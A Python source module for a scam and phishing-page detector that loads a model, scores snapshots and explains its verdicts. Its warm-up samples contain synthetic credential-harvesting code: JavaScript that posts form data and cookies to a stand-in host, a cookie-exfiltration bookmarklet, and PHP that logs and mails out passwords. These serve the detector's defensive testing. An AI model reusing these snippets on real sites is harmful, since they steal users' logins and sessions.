"""``Detector``: a loaded model that turns snapshots into explained verdicts.

``Detector.load()`` loads the shipped model (verified); ``score`` and ``score_many`` never raise
for a bad row: the verdict carries the error and the batch goes on.
"""

from __future__ import annotations

import contextlib
import math
import os
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from itertools import islice
from pathlib import Path
from typing import Any

import numpy as np

from detector.config import Settings
from detector.errors import DetectorError
from detector.extract.features import Extraction, extract, extract_in_steps, schema_hash
from detector.extract.literals import prepare_all
from detector.model.artifact import Artifact, load
from detector.model.explain import WORDING_TERMS, Explainer
from detector.model.fast import Wording
from detector.model.threads import one_thread
from detector.records import DomainIntel, Snapshot, Verdict

# Fetch errors that leave nothing to score, not even a URL worth reading.
_UNSCORABLE = frozenset({"fetch.invalid_url", "fetch.unsupported_scheme"})

IntelLookup = Callable[[str], DomainIntel | None]

# Long enough (over ``literals.MIN_CHARS`` in every text) to take each family down its long-text
# paths once: what a worker's first real pages would otherwise pay (tests/test_warm_up.py).
_WARM_UP_WORDS = (
    "Sign in with Instagram or Facebook to see who viewed your profile. Enter your password "
    "and the one-time code to continue, then verify that you are human by completing one "
    "offer. Generate 10k free followers and likes, unlock the full report. Someone just "
    "received 5000 followers. Time left: 00:59. Download the app (free.apk). Search: "
    "Suspicious activity detected: get the full report of the anonymous investigation now. "
    "Hurry, only 3 left! This is a simulation. Can you really see who viewed your TikTok? "
    "No: sites that claim it are scams. Not affiliated with TikTok. Privacy policy. "
)
_WARM_UP_SCRIPT = (
    "var form = document.querySelector('form'); form.addEventListener('submit', function (e) {"
    " var data = new FormData(form); var p = document.getElementById('pass').value;"
    " fetch('https://collect.invalid/', {method: 'POST', body: data});"
    " $.ajax({url: '/x', data: {p: p}}); var c = document.cookie;"
    " localStorage.getItem('token'); eval(atob('YQ==')); });"
    " setInterval(function () { bar.style.width = percent + '%'; countdown--; }, 1000);"
    " chrome.cookies.getAll({domain: 'tiktok.com'}, function (x) {});"
)
_WARM_UP_SERVER = (
    "<?php $u = $_POST['username']; $p = $_POST['password']; "
    "file_put_contents('log.txt', $u . ':' . $p, FILE_APPEND); mail('x@invalid', 's', $p); "
    "if (password_verify($p, $hash)) { header('Location: https://www.tiktok.com/'); } ?>"
)


def warm_up_snapshots() -> list[dict[str, Any]]:
    """Synthetic snapshots of each kind, written here (no page from any data set)."""
    words = _WARM_UP_WORDS * 6
    page = (
        "<!doctype html><html><head><title>warm up: who viewed your TikTok</title>"
        '<meta name="description" content="warm up"><meta property="og:title" content="x">'
        '<script src="https://www.google.com/recaptcha/api.js"></script></head><body>'
        f"<h1>warm up</h1><h2>{words[:120]}</h2><h3>Instagram</h3><p>{words}</p>"
        '<form action="https://collect.invalid/login.php" method="post">'
        '<input type="text" name="username" placeholder="Username or email">'
        '<input type="password" id="pass" name="password" autocomplete="current-password">'
        '<input type="text" name="otp" placeholder="One-time code">'
        '<input type="text" name="search" placeholder="Search"><input type="hidden" name="token" value="abc">'
        '<button type="submit">Log in with Facebook</button></form>'
        '<a href="https://www.tiktok.com/v2/auth/authorize/?client_key=abc&scope=user.info.basic,'
        'video.upload&response_type=code&redirect_uri=https://warm-up.invalid/cb">Continue with '
        "TikTok</a>"
        "<a href=\"javascript:(function(){var s=document.createElement('script');"
        "s.src='https://collect.invalid/'+document.cookie;document.body.appendChild(s)})()\">"
        "drag me</a>"
        f'<a href="https://warm-up.invalid/free.apk">{words[:200]}</a>'
        '<div role="button">Unlock</div><iframe src="https://warm-up.invalid/f"></iframe>'
        f"<script>{_WARM_UP_SCRIPT * 3}</script><script>og_load(); call_locker();</script>"
        "</body></html>"
    )
    return [
        {"url": "https://warm-up.invalid/", "html": "<title>warm up</title><p>hello</p>"},
        {
            "url": "https://tiktok-views.warm-up.invalid/login",
            "html": page,
            "scripts": [{"url": "https://warm-up.invalid/a.js", "text": _WARM_UP_SCRIPT * 3}],
        },
        {
            "url": "https://warm-up.invalid/next",
            "html": f"<title>Continue</title><p>{words}</p><form><input type=email name=email>"
            "<input name=q placeholder=Search><button>Continue</button></form>",
        },
        {"kind": "page", "text": _WARM_UP_SERVER * 4},
        {"kind": "page", "text": _WARM_UP_SCRIPT * 4},
        {"kind": "ad", "text": words},
        {
            "kind": "extension_listing",
            "listing": {
                "name": "warm up",
                "description": words,
                "permissions": ["cookies", "storage", "webRequest"],
                "host_permissions": ["https://*.tiktok.com/*"],
                "manifest": {"name": "warm up", "manifest_version": 3},
            },
        },
        {"kind": "app_listing", "listing": {"name": "warm up", "description": words}},
    ]


def default_model_dir() -> Path:
    """``DETECTOR_MODEL_PATH`` if set, else the shipped model.

    The shipped model lives in models/default; ``detector/models`` links to it, so an installed
    wheel carries it inside the package (pyproject's package data). A checkout whose link did
    not survive (a file system without symbolic links) still finds models/default beside it.
    """
    env = os.environ.get("DETECTOR_MODEL_PATH")
    if env:
        return Path(env)
    here = Path(__file__).resolve().parent
    packaged = here / "models" / "default"
    return packaged if packaged.is_dir() else here.parent / "models" / "default"


@dataclass(eq=False, repr=False)
class Detector:
    """Scores snapshots with a verified model and explains every verdict."""

    artifact: Artifact
    settings: Settings = field(default_factory=Settings)
    intel: IntelLookup | None = None
    explainer: Explainer = field(default_factory=Explainer.default)

    @classmethod
    def load(
        cls,
        path: str | Path | None = None,
        settings: Settings | None = None,
        intel: IntelLookup | None = None,
    ) -> Detector:
        """Load and verify a model directory (default: the shipped model)."""
        s = settings or Settings()
        model_dir = (
            Path(path) if path else Path(s.model_path) if s.model_path else default_model_dir()
        )
        return cls(load(model_dir, schema_hash()), s, intel)

    @property
    def model_name(self) -> str:
        return self.artifact.name

    def info(self) -> dict[str, Any]:
        side = self.artifact.sidecar
        keys = (
            "name",
            "version",
            "estimator",
            "created_at",
            "thresholds",
            "feature_schema_hash",
            "training_data_sha256",
            "libraries",
        )
        return {k: side.get(k) for k in keys} | {"model": self.model_name}

    def warm_up(self) -> list[Verdict]:
        """Score one synthetic snapshot of each kind, then compile every literal database, so
        the first real page costs what the next ones do (``literals.prepare_all``). Call it on
        the thread that will score: scratch spaces are per thread. Returns the verdicts (a
        caller may check that none failed)."""
        verdicts = list(self.score_many(warm_up_snapshots()))
        prepare_all()
        return verdicts

    def warm_steps(self) -> Iterator[None]:
        """One score of the warm-up page, yielding between its parts (the parse, each family,
        the rest of the extraction, then the models and the explanation as ``score`` runs them:
        0.01-0.5 ms each), for a caller that keeps the scoring path warm between requests and
        must give way at short notice (the endpoint's keep-warm). Run it on the scoring
        thread."""
        snap = Snapshot.coerce(warm_up_snapshots()[0])
        ex = yield from extract_in_steps(snap, None, self.settings)
        yield
        self._score_prepared([(snap, ex)], {})

    def score(self, snapshot: Snapshot | Mapping[str, Any]) -> Verdict:
        """Score one snapshot (a ``Snapshot`` or a plain dict)."""
        return next(self.score_many([snapshot]))

    def score_many(
        self, snapshots: Iterable[Snapshot | Mapping[str, Any]], batch_size: int = 64
    ) -> Iterator[Verdict]:
        """Score in batches; yields one verdict per input, in input order."""
        it = iter(snapshots)
        while batch := list(islice(it, batch_size)):
            yield from self._score_batch(batch)

    def _prepare(
        self, item: Snapshot | Mapping[str, Any], looked_up: dict[int, DomainIntel] | None = None
    ) -> tuple[Snapshot | None, Extraction | Verdict]:
        try:
            snap = Snapshot.coerce(item)
        except DetectorError as exc:
            raw_id = item.get("id") if isinstance(item, Mapping) else None
            failed = Verdict.failed(
                None, f"{getattr(exc, 'code', 'snapshot.invalid')}: {exc}", self.model_name
            )
            failed.id = raw_id if isinstance(raw_id, str | int) else None
            return None, failed
        if not (snap.url or snap.html or snap.text or snap.listing):
            return snap, Verdict.failed(
                snap, "snapshot.empty: no url, html, text or listing", self.model_name
            )
        code = (snap.error or "").split(":", 1)[0].strip()
        if code in _UNSCORABLE and not (snap.html or snap.text or snap.listing):
            return snap, Verdict.failed(
                snap, f"{code}: {snap.url!r} cannot be fetched or scored", self.model_name
            )
        try:
            intel = self.intel(snap.effective_url) if self.intel and snap.effective_url else None
            if intel is not None and looked_up is not None:
                looked_up[id(snap)] = intel
            # The model reads domain age only if it was trained with known ages; otherwise the
            # age is shown to the analyst (verdict extras) and the model sees "unknown", as in
            # training (a feature constant in training has no learned meaning).
            ex = extract(snap, intel if self.age_trained else None, self.settings)
        except DetectorError as exc:
            return snap, Verdict.failed(
                snap, f"{getattr(exc, 'code', 'extract.failed')}: {exc}", self.model_name
            )
        except (ValueError, OverflowError, RecursionError) as exc:
            return snap, Verdict.failed(snap, f"extract.failed: {_reason(exc)}", self.model_name)
        bad = next((k for k, v in ex.features.items() if not _finite(v)), None)
        if bad is not None:
            return snap, Verdict.failed(
                snap, f"extract.non_finite: feature {bad} is not a finite number", self.model_name
            )
        return snap, ex

    @property
    def age_trained(self) -> bool:
        """Whether the model saw known domain ages in training (sidecar ``domain_age_trained``)."""
        return bool(self.artifact.sidecar.get("domain_age_trained"))

    def _score_batch(self, batch: list[Snapshot | Mapping[str, Any]]) -> list[Verdict]:
        looked_up: dict[int, DomainIntel] = {}  # per batch: a Detector is shared by threads
        prepared = [self._prepare(item, looked_up) for item in batch]
        return self._score_prepared(prepared, looked_up)

    def _score_prepared(
        self,
        prepared: list[tuple[Snapshot | None, Extraction | Verdict]],
        looked_up: dict[int, DomainIntel],
    ) -> list[Verdict]:
        """Verdicts of extracted snapshots (``_prepare``'s answers): the models and the
        explanation."""
        rows: list[dict[str, Any]] = []
        docs: list[str] = []
        row_doc: list[int] = []  # which document each feature row belongs to
        spans: list[tuple[int, list[str]]] = []
        for _snap, ex in prepared:
            if isinstance(ex, Extraction):
                keys = self.explainer.candidates(ex.features)
                spans.append((len(rows), keys))
                block = [ex.features, *self.explainer.occluded(ex.features, keys)]
                rows.extend(block)
                row_doc.extend([len(docs)] * len(block))
                docs.append(ex.document)
            else:
                spans.append((-1, []))
        scores: np.ndarray | None = None
        shifts: np.ndarray | None = None
        wordings: list[Wording] = []
        # One row the model refuses must not take the batch down: each is then scored alone.
        with contextlib.suppress(ValueError, FloatingPointError, OverflowError), one_thread():
            scores, shifts, wordings = self._proba(rows, docs, row_doc)
        out = []
        n_doc = -1
        for (snap, ex), (start, keys) in zip(prepared, spans, strict=True):
            if not isinstance(ex, Extraction):
                out.append(ex)
                continue
            assert snap is not None
            span = slice(start, start + 1 + len(keys))
            n_doc += 1
            try:
                if scores is not None and shifts is not None:
                    mine, shift, wording = scores[span], float(shifts[n_doc]), wordings[n_doc]
                else:
                    with one_thread():
                        alone, alone_shift, alone_wording = self._proba(
                            rows[span], [docs[n_doc]], [0] * len(rows[span])
                        )
                    mine, shift, wording = alone, float(alone_shift[0]), alone_wording[0]
            except (ValueError, FloatingPointError, OverflowError) as exc:
                out.append(Verdict.failed(snap, f"model.failed: {_reason(exc)}", self.model_name))
                continue
            verdict = self._verdict(snap, ex, mine, keys, looked_up.get(id(snap)))
            self._add_wording(verdict, ex, shift, wording)
            out.append(verdict)
        return out

    def _proba(
        self, rows: list[dict[str, Any]], docs: list[str], row_doc: list[int]
    ) -> tuple[np.ndarray, np.ndarray, list[Wording]]:
        """Calibrated scores of feature rows (each with its document), each document's wording
        shift in calibrated log-odds, and how the wording model read each document (for the
        explanation); raises if the model refuses a row."""
        if not rows:
            return np.array([]), np.array([]), []
        fast = self.artifact.model.fast
        model = self.artifact.model
        wordings = fast.read(docs)
        text = fast.text_log_odds(wordings)
        blended = model.combine(fast.signals_log_odds(rows), text[np.asarray(row_doc)])
        scores = self.artifact.platt(1.0 / (1.0 + np.exp(-blended)))
        if not np.all(np.isfinite(scores)):
            raise ValueError("the model gave a non-finite score")
        # ``fast.empty_log_odds``: the wording of an empty page, computed once per model.
        shifts = model.text_weight * (text - fast.empty_log_odds) * self.artifact.platt.a
        return scores, shifts, wordings

    def _add_wording(
        self, verdict: Verdict, ex: Extraction, shift: float, wording: Wording | None = None
    ) -> None:
        """Say how far the wording model moved the score, with the words that moved it."""
        if not self.explainer.wording_matters(shift):
            return  # no reason to give: skip the second pass over the document
        model, n = self.artifact.model, WORDING_TERMS
        terms = model.fast.top_terms(wording, n) if wording is not None else None
        up, down = terms if terms is not None else model.top_terms(ex.document, n)
        reason = self.explainer.wording(shift, up, down, verdict.label or "")
        if reason is not None:
            verdict.reasons = self.explainer.merge(verdict.reasons, reason, verdict.label or "")

    def _verdict(
        self,
        snap: Snapshot,
        ex: Extraction,
        scores: np.ndarray,
        keys: list[str],
        intel: DomainIntel | None = None,
    ) -> Verdict:
        score = float(scores[0])
        label = self.artifact.thresholds.label(score)
        reasons = self.explainer.reasons(ex.features, ex.evidence, keys, score, scores[1:], label)
        basis = "page" if (snap.html or snap.text or snap.listing) else "url"
        if basis == "url" and label == "benign":
            label = "unverified"  # nothing was read but the URL: not evidence of benign
        extra: dict[str, Any] = {}
        if snap.error:
            extra["fetch_error"] = snap.error
        if intel is not None and intel.age_days is not None:
            extra["domain_age_days"] = round(intel.age_days, 1)
            extra["registered_domain"] = intel.registered_domain
            if intel.registrar:
                extra["registrar"] = intel.registrar
        trail = snap.extra.get("discovery")
        if isinstance(trail, dict):  # found by following a lure link from another page
            extra["discovered_from"] = trail.get("parent_url")
            extra["discovery_depth"] = trail.get("depth")
        given = snap.extra.get("given_url")
        if isinstance(given, str) and given != snap.url:
            extra["given_url"] = given  # the indicator as pasted (defanged or scheme-less)
        if snap.listing is not None and snap.listing.developer:
            extra["publisher"] = snap.listing.developer  # listings group by who published them
        return Verdict(
            id=snap.id,
            url=snap.url,
            kind=snap.kind,
            score=score,
            label=label,
            reasons=reasons,
            claims=ex.claims,
            model=self.model_name,
            extra=extra,
            basis=basis,
            features=ex.features,
        )


def _finite(value: object) -> bool:
    return not isinstance(value, float) or math.isfinite(value)


def _reason(exc: BaseException) -> str:
    """One line naming the exception, short enough for a verdict's error field."""
    text = " ".join(str(exc).split())[:200]
    return f"{type(exc).__name__}: {text}" if text else type(exc).__name__
